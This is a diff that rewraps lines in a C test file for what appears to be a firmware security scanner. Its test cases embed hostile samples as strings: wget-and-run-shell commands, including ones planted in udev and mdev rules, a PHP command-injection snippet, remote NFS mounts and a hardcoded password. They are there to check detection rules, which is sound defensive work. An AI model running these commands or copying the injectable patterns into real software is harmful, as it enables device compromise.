@@ -17,19 +17,22 @@ static void scripts_in_other_languages_give_what_they_do_and_no_more(void **stat
 		const char *path, *text, *rule;
 		int severity;                    /* -1: nothing */
 	} cases[] = {
-		{ "a.lua", "local h, p = \"203.0.113.5\", 515\nlocal c = socket.tcp()\nc:connect(h, p)\n", "fw.fixed-destination", SEV_MEDIUM },
+		{ "a.lua", "local h, p = \"203.0.113.5\", 515\nlocal c = socket.tcp()\nc:connect(h, p)\n", "fw.fixed-destination",
+		  SEV_MEDIUM },
 		{ "a.lua", "local h = uci:get(\"a\")\nlocal c = socket.tcp() -- 203.0.113.5\nc:connect(h, 515)\n", "", -1 },
-		{ "a.lua", "os.execute(string.format(\"mount -t nfs %s:/pm /mnt\", \"203.0.113.5\"))\n", "fw.remote-mount", SEV_HIGH },
+		{ "a.lua", "os.execute(string.format(\"mount -t nfs %s:/pm /mnt\", \"203.0.113.5\"))\n", "fw.remote-mount",
+		  SEV_HIGH },
 		{ "a.lua", "--[[ os.execute ]] print(\"mount -t nfs 203.0.113.5:/pm /mnt\")\n", "", -1 },
 		{ "a.py", "S = ('203.0.113.%d' % 5, 515)\ns.connect(S)\n", "fw.fixed-destination", SEV_MEDIUM },
 		{ "a.py", "S = (conf['host'], 515)\ns.connect(S)\nx = '203.0.113.5'\n", "", -1 },
-		{ "a.py", "h = '203.0.113.5'\nsubprocess.run(f'wget -O /tmp/x http://{h}/x; sh /tmp/x', shell=True)\n", "fw.script-fetch",
-		  SEV_HIGH },
+		{ "a.py", "h = '203.0.113.5'\nsubprocess.run(f'wget -O /tmp/x http://{h}/x; sh /tmp/x', shell=True)\n",
+		  "fw.script-fetch", SEV_HIGH },
 		{ "a.py", "subprocess.run(['ping', os.environ['QUERY_STRING']])\n", "", -1 },
 		{ "a.php", "<?php $h = $_GET['h']; system(\"ping $h\"); ?>", "fw.command-injection", SEV_HIGH },
 		{ "a.php", "<?php $h = escapeshellarg($_GET['h']); system(\"ping $h\"); ?>", "", -1 },
 		{ "a.php", "<?php $f = fsockopen('udp://203.0.113.5', 515); ?>", "fw.fixed-destination", SEV_MEDIUM },
-		{ "a.pl", "my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.5', PeerPort => 515);\n", "fw.fixed-destination", SEV_MEDIUM },
+		{ "a.pl", "my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.5', PeerPort => 515);\n", "fw.fixed-destination",
+		  SEV_MEDIUM },
 		{ "a.pl", "my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => 515);\n", "", -1 },
 		{ "a.awk", "BEGIN { s = \"/inet/tcp/0/203.0.113.5/515\"; s |& getline l }\n", "fw.fixed-destination", SEV_MEDIUM },
 		{ "a.awk", "BEGIN { s = \"/inet/tcp/0/203.0.113.5/515\"; print s }\n", "", -1 },
@@ -53,7 +56,8 @@ static void rules_of_udev_and_mdev_run_commands(void **state)
 		const char *path, *text;
 		int severity;
 	} cases[] = {
-		{ "etc/udev/rules.d/9.rules", "SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'wget -O- http://203.0.113.5/p | sh'\"\n", SEV_HIGH },
+		{ "etc/udev/rules.d/9.rules", "SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'wget -O- http://203.0.113.5/p | sh'\"\n",
+		  SEV_HIGH },
 		{ "etc/udev/rules.d/9.rules", "SUBSYSTEM==\"net\", NAME=\"wget -O- http://203.0.113.5/p | sh\"\n", -1 },
 		{ "etc/mdev.conf", "sda1 root:disk 660 @wget -O- http://203.0.113.5/p | sh\n", SEV_HIGH },
 		{ "etc/mdev.conf", "# sda1 root:disk 660 @wget -O- http://203.0.113.5/p | sh\n", -1 },
@@ -76,7 +80,8 @@ static void clients_of_libraries_have_destinations_and_passwords(void **state)
 		fake_program(&k, "bin/agent");
 		fake_call(&k, CALL_NETWORK, "mosquitto_username_pw_set", given ? "user=\"{config:u}" : "user=\"device",
 			  given ? "password=\"{config:p}" : "password=\"hunter22", NULL);
-		fake_call(&k, CALL_NETWORK, "mosquitto_connect", given ? "host=\"{config:h}" : "host=\"203.0.113.5", "port=#1883", NULL);
+		fake_call(&k, CALL_NETWORK, "mosquitto_connect", given ? "host=\"{config:h}" : "host=\"203.0.113.5", "port=#1883",
+			  NULL);
 		assert_int_equal(severity_of(&k, "fw.fixed-destination"), given ? -1 : (int)SEV_MEDIUM);
 		assert_int_equal(severity_of(&k, "fw.fixed-credential"), given ? -1 : (int)SEV_MEDIUM);
 		fake_end(&k);
@@ -109,7 +114,9 @@ static void what_a_program_fetches_by_itself_is_an_update_when_it_is_run(void **
 	static const struct {
 		const char *source;
 		bool fires;
-	} cases[] = { { "data=\"{socket:inet stream}", true }, { "data=\"{socket:accepted}", false }, { "data=\"{file:/dev/sda}", false } };
+	} cases[] = { { "data=\"{socket:inet stream}", true },
+		      { "data=\"{socket:accepted}", false },
+		      { "data=\"{file:/dev/sda}", false } };
 	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
 		struct fake k;
 		fake_begin(&k);
@@ -164,7 +171,8 @@ static void a_script_that_is_written_and_run_is_read(void **state)
 	struct fake k;
 	fake_begin(&k);
 	fake_program(&k, "bin/update");
-	fake_call(&k, CALL_RUN, "system", "command=\"/tmp/up.sh", "script=\"#!/bin/sh\nmount -t nfs 203.0.113.5:/pm /mnt\n", NULL);
+	fake_call(&k, CALL_RUN, "system", "command=\"/tmp/up.sh", "script=\"#!/bin/sh\nmount -t nfs 203.0.113.5:/pm /mnt\n",
+		  NULL);
 	assert_int_equal(severity_of(&k, "fw.remote-mount"), SEV_HIGH);
 	fake_end(&k);
 }
